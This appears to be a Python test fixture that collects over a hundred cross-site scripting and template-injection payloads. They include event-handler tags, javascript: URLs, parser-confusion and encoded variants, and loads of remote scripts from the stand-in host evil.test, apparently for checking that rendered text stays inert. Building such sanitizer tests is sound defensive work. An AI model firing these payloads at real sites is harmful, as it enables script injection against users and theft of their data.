# ruff: noqa: E501  payloads are shown whole
"""Text that would like to run, or to load something, where it is shown: markup, links, breakouts, disguises.

Each one sets `owned` (in its window or the one around it), opens a dialog, or asks evil.test, if any part of
it is ever taken for more than text. Collected by shape: tags, tags behind what closes the place they stand
in, attributes, addresses, templates, parser confusions, and the same in other encodings.
"""

_RUN = "top.owned=parent.owned=owned=1"
_TAGS = (
    f"<script>{_RUN}</script>", "<script src=//evil.test/x.js></script>", f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<img src=x onerror={_RUN}>", "<img src=//evil.test/i.png>", "<img srcset='//evil.test/s.png 1x'>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>", f"<iframe src='javascript:{_RUN}'></iframe>",
    "<iframe src=//evil.test/f></iframe>", "<object data=//evil.test/o></object>", "<embed src=//evil.test/e>",
    "<link rel=stylesheet href=//evil.test/l.css>", "<link rel=prefetch href=//evil.test/p>",
    "<style>@import '//evil.test/s.css';</style>", "<style>*{background:url(//evil.test/b)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.test/r'>", "<base href=//evil.test/>",
    f"<input autofocus onfocus={_RUN}>", f"<details open ontoggle={_RUN}>x</details>",
    f"<video src=x onerror={_RUN}></video>", f"<audio src=//evil.test/a onerror={_RUN}></audio>",
    f"<video poster=//evil.test/v><source onerror={_RUN}></video>", f"<marquee onstart={_RUN}>x</marquee>",
    f"<body onload={_RUN}>", f"<select autofocus onfocus={_RUN}></select>",
    f"<div style='animation-name:arrive' onanimationstart={_RUN}>x</div>",
    f"<form action='javascript:{_RUN}'><button autofocus onfocus={_RUN}>x</button></form>",
    f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={_RUN}>x</div>",
    f"<x contenteditable onblur={_RUN} autofocus tabindex=1>x</x>", "<script>alert(1)</script>",
    "<div style='background:url(//evil.test/d)'>x</div>", f"<div style='width:expression({_RUN})'>x</div>",
    f"<isindex type=image src=x onerror={_RUN}>", f"<template><script>{_RUN}</script></template>",
    f"<noscript><img src=x onerror={_RUN}></noscript>", "<table background=//evil.test/t><tr><td>x</table>",
)  # fmt: skip
_CLOSERS = (
    '"', "'", '">', "'>", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "</bdi></li></ol>",
    "</span></blockquote>", "</option></select>", "</article></body>", "</h1>", "`>", "\\\">", "?>", "%>",
)  # fmt: skip
_BEHIND = (f"<img src=x onerror={_RUN}>", f"<svg/onload={_RUN}>")
_ATTRIBUTES = (
    f'" onmouseover="{_RUN}" style="position:fixed;inset:0" x="', f'" autofocus onfocus="{_RUN}" tabindex="0',
    f"' onfocus='{_RUN}' autofocus='", f'" style="animation-name:arrive" onanimationstart="{_RUN}',
    f"` onerror={_RUN} `", f'" formaction="javascript:{_RUN}" x="', '" srcdoc="<script>parent.owned=1</script>',
    '" src="//evil.test/q" x="', f'x" onload="{_RUN}', '" class="cite" href="//evil.test/c" x="',
)  # fmt: skip
_ADDRESSES = (
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f"\x01javascript:{_RUN}",
    f"javascript://%0a{_RUN}", f"data:text/html,<script>{_RUN}</script>", "//evil.test/", "https://evil.test/",
    f"data:text/javascript,{_RUN}", f"vbscript:{_RUN}", f"<a href='javascript:{_RUN}'>x</a>", "\\\\evil.test\\x",
    f"[x](javascript:{_RUN})", "![x](//evil.test/m.png)", f"<javascript:{_RUN}>", f"[x]: javascript:{_RUN}",
    f"```html\n<img src=x onerror={_RUN}>\n```", f"$$\\href{{javascript:{_RUN}}}{{x}}$$",
    '<a href="//evil.test/" autofocus>x</a>', "#78f2d62693d5:4-8:096f97fa", "../../gradio_api/upload",
)  # fmt: skip
_TEMPLATES = (
    f'";{_RUN};//', f"';{_RUN};//", f"${{{_RUN}}}", f"`+({_RUN})+`", f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "{{7*7}}", f"<%= {_RUN} %>", f"#{{{_RUN}}}", f"{{% raw %}}{_RUN}{{% endraw %}}", "{question.__class__}",
    "{0}", "%(words)s", f"*{{}}{_RUN}/*", "__proto__", "constructor", f"\u2028{_RUN}\u2029",
)  # fmt: skip
_CONFUSIONS = (
    f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={_RUN}&gt;\">",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={_RUN}>\">",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={_RUN} src>\">",
    f"<xmp><p title=\"</xmp><img src=x onerror={_RUN}>\">", f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>", f"<svg><![CDATA[><img src=x onerror={_RUN}>]]>",
    f"<textarea><img title=\"</textarea><img src=x onerror={_RUN}>\">", f"<<img src=x onerror={_RUN}//<",
    f"<img\nsrc=x\nonerror={_RUN}>", f"<img/src=x/onerror={_RUN}>", f"<ImG sRc=x OnErRoR={_RUN}>",
    f"<img src=x onerror={_RUN} ", f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"<?xml version='1'?><svg onload={_RUN}>",
    f"<plaintext><img src=x onerror={_RUN}>", f"<img src=x:x onerror\x0c={_RUN}>",
)  # fmt: skip
_DISGUISES = (
    f"&lt;img src=x onerror={_RUN}&gt;", f"&#60;img src=x onerror={_RUN}&#62;", f"&#x3c;img src=x onerror={_RUN}>",
    f"%3Cimg src=x onerror={_RUN}%3E", f"\\u003cimg src=x onerror={_RUN}\\u003e", f"\\x3cimg src=x onerror={_RUN}\\x3e",
    f"+ADw-img src=x onerror={_RUN}+AD4-", f"＜img src=x onerror={_RUN}＞", f"<im\u200bg src=x onerror={_RUN}>",
    f"\u202e<img src=x onerror={_RUN}>\u202c", f"\ufeff<img src=x onerror={_RUN}>", f"<img\0 src=x onerror={_RUN}>",
    f"&amp;lt;img src=x onerror={_RUN}&amp;gt;", f"<img src=x onerror=&#111;wned=1;{_RUN}>", f"‹img src=x onerror={_RUN}›",
    f"<img src=x\u3000onerror={_RUN}>", f"\r\n\r\n<img src=x onerror={_RUN}>", f"<i\u0301mg src=x onerror={_RUN}>",
)  # fmt: skip

PAYLOADS = (
    *_TAGS,
    *(closer + tag for closer in _CLOSERS for tag in _BEHIND),
    *_ATTRIBUTES,
    *_ADDRESSES,
    *_TEMPLATES,
    *_CONFUSIONS,
    *_DISGUISES,
)
assert len(set(PAYLOADS)) == len(PAYLOADS) >= 100


def packed(limit: int) -> list[str]:
    """All payloads, as many as fit into `limit` characters at a time."""
    packs = [""]
    for payload in PAYLOADS:
        if len(packs[-1]) + len(payload) + 1 > limit:
            packs.append("")
        packs[-1] += f" {payload}"
    return packs
